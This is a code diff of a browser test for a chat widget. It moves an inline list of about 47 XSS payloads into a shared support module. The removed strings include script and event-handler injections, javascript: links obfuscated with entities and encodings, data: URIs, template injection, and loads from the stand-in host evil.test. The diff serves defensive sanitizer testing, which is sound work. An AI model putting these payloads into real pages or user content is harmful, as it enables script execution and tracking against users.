@@ -1,59 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { launchChromium } from "../support/browser";
 import { SITE, W, answerChunks, installFakeWorker, scriptTagPage } from "../support/widget-page";
-
-// A corpus of XSS payloads fed through the model's output, document (source) titles and URLs,
-// and image prompts. Every payload, if it ever ran, would call window.__pwned or open a dialog,
-// or fetch from evil.test; the test proves none of that happens and nothing executable is drawn.
-const XSS_PAYLOADS = [
-  "<script>window.__pwned('script')</script>",
-  "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
-  "<img src=x onerror=\"window.__pwned('img')\">",
-  "<img src=https://evil.test/pixel.png>",
-  "<svg onload=\"window.__pwned('svg')\"></svg>",
-  "<svg><script>window.__pwned('svg-script')</script></svg>",
-  "<iframe src=\"javascript:window.__pwned('iframe')\"></iframe>",
-  "<iframe srcdoc=\"<script>parent.__pwned('srcdoc')</script>\"></iframe>",
-  "<body onload=\"window.__pwned('body')\">",
-  "<a href=\"javascript:window.__pwned('a')\">click</a>",
-  "<div style=\"background:url(javascript:window.__pwned('css'))\">x</div>",
-  "<object data=\"data:text/html,<script>parent.__pwned('object')</script>\"></object>",
-  "<embed src=\"https://evil.test/x.swf\">",
-  "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned('math')>",
-  "<details open ontoggle=\"window.__pwned('details')\">",
-  "<input autofocus onfocus=\"window.__pwned('input')\">",
-  "<video><source onerror=\"window.__pwned('video')\"></video>",
-  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__pwned('meta')\">",
-  "<link rel=stylesheet href=https://evil.test/x.css>",
-  "<base href=\"https://evil.test/\">",
-  "<form action=\"javascript:window.__pwned('form')\"><button>go</button></form>",
-  "[click](javascript:window.__pwned('md-link'))",
-  "[click](JAVASCRIPT:window.__pwned('md-upper'))",
-  "[click](java\tscript:window.__pwned('md-tab'))",
-  "[click](java&#x73;cript:window.__pwned('md-entity'))",
-  "[click](&#106;avascript:window.__pwned('md-entity2'))",
-  "[click](%6Aavascript:window.__pwned('md-percent'))",
-  "[click]( javascript:window.__pwned('md-space'))",
-  "[click](\u0001javascript:window.__pwned('md-control'))",
-  "[click](vbscript:msgbox(1))",
-  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-  "[click](data:text/html,<script>window.__pwned('md-data')</script>)",
-  "![x](https://evil.test/tracker.png)",
-  "![x](//evil.test/tracker.png)",
-  "![x](javascript:window.__pwned('md-img'))",
-  "![x](data:image/svg+xml,<svg onload=window.__pwned('md-svg')>)",
-  "![x\" onerror=\"window.__pwned('alt')](/v1/images/ok)",
-  "[<img src=x onerror=window.__pwned('nested')>](https://ok.test)",
-  "<https://evil.test/\" onmouseover=\"window.__pwned('autolink')>",
-  "`<script>window.__pwned('code')</script>`",
-  "```html\n<script>window.__pwned('fence')</script>\n```",
-  "> <img src=x onerror=window.__pwned('quote')>",
-  "| <img src=x onerror=window.__pwned('table')> | b |\n|---|---|\n| <script>window.__pwned('cell')</script> | c |",
-  "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned('noscript')>\">",
-  "<template><script>window.__pwned('template')</script></template>",
-  "{{constructor.constructor('window.__pwned(\"template-injection\")')()}}",
-  "<a href=\"&#x6A;avascript:window.__pwned('entity-a')\">e</a>",
-];
+import { XSS_PAYLOADS } from "../support/xss-payloads";
 
 let browser: Awaited<ReturnType<typeof launchChromium>>;
 beforeAll(async () => {
